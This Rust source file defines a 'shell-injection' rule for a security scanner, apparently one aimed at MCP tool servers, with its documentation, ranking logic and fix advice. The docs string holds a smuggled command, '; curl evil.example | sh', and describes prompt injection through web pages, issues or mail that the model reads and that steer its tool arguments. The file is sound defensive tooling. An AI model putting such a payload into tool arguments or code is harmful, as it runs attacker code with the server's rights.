//! A caller writes a part of a command line.

use std::collections::BTreeMap;

use crate::{
    finding::{Confidence, Finding, Fix, Place, Related, Severity},
    project::{
        Language, Project,
        facts::{Flow, Sink},
    },
    rules::{Rule, context},
};

pub(super) static RULE: Rule = Rule {
    id: "shell-injection",
    group: "injection",
    title: "input of a caller reaches a command line that a shell parses",
    severity: Severity::Critical,
    confidence: Confidence::High,
    languages: &Language::ALL,
    since: "0.1.0",
    references: &["CWE-78", "MCP05", "MSSS EXEC-01", "CVE-2025-53967", "CVE-2025-54073", "CVE-2025-53818"],
    docs: "
Arguments of tools are written by a model, and so by whoever can write to the model: a web page, an issue, a mail. Where
such an argument becomes part of a text that a shell parses, `; curl evil.example | sh` in it is run with the rights of the
server.

Start the program without a shell, with its arguments as a list: `execFile`, `subprocess.run([...])`, `Command::new`,
`exec.Command`. Let arguments of the caller follow a `--`, and take only values from a fixed set where there is one.

Quoting by a library (`shlex.quote`, `shell-quote`) is reported with low confidence. Quoting by hand, replacing characters and JSON schemas that allow any string do not help. A value from a fixed set, a number
and an anchored pattern do, and are not reported. Where running commands is what the tool is for, the finding is
informational: what such a tool needs is approval and a sandbox.
",
    applies: context::has_server_or_flow,
    check,
};

fn check(project: &Project, findings: &mut Vec<Finding>) {
    let mut sinks: BTreeMap<&Place, Vec<&Flow>> = BTreeMap::new();
    for flow in project.facts.flows.iter().filter(|flow| flow.sink == Sink::Shell) {
        sinks.entry(&flow.place).or_default().push(flow);
    }
    findings.extend(sinks.into_values().map(|flows| finding(project, &flows)));
}

/// One finding for a command line, however many parameters reach it: the story of the surest.
fn finding(project: &Project, flows: &[&Flow]) -> Finding {
    let mut flow = flows[0];
    for other in flows {
        let short = |flow: &Flow| std::cmp::Reverse(flow.hops.len());
        let rank = |flow: &Flow| (flow.guards.is_empty(), flow.confidence, !flow.by_design, short(flow));
        if rank(other) > rank(flow) {
            flow = other;
        }
    }
    let (usual, sure) = match (flow.by_design, flow.guards.is_empty()) {
        (true, _) => (Severity::Info, flow.confidence),
        (false, true) => (Severity::Critical, flow.confidence),
        // Right in most shells, and wrong in some: said to those who ask for guesses.
        (false, false) => (Severity::Medium, Confidence::Low),
    };
    let (severity, confidence) = context::weigh(project, &flow.place, usual, sure);
    let mut parameters: Vec<String> = flows.iter().map(|flow| format!("`{}`", flow.parameter)).collect();
    parameters.sort();
    parameters.dedup();
    let of = flow.tool.as_ref().map(|tool| format!(" of `{tool}`")).unwrap_or_default();
    let reach = if parameters.len() == 1 { "reaches" } else { "reach" };
    let by_design = if flow.by_design { ", by design" } else { "" };
    Finding {
        rule: RULE.id,
        severity,
        confidence,
        place: flow.place.clone(),
        message: format!("{}{of} {reach} `{}`, which a shell parses{by_design}", parameters.join(" and "), flow.call),
        attack: "whoever writes a text that the model reads runs commands with the rights of the server".to_owned(),
        related: flow.hops.iter().map(|hop| Related { place: hop.place.clone(), message: hop.note.clone() }).collect(),
        fix: Some(Fix::advice(if flow.by_design {
            "let a person approve each command, and run it in a sandbox"
        } else {
            "start the program without a shell, with its arguments as a list"
        })),
    }
}
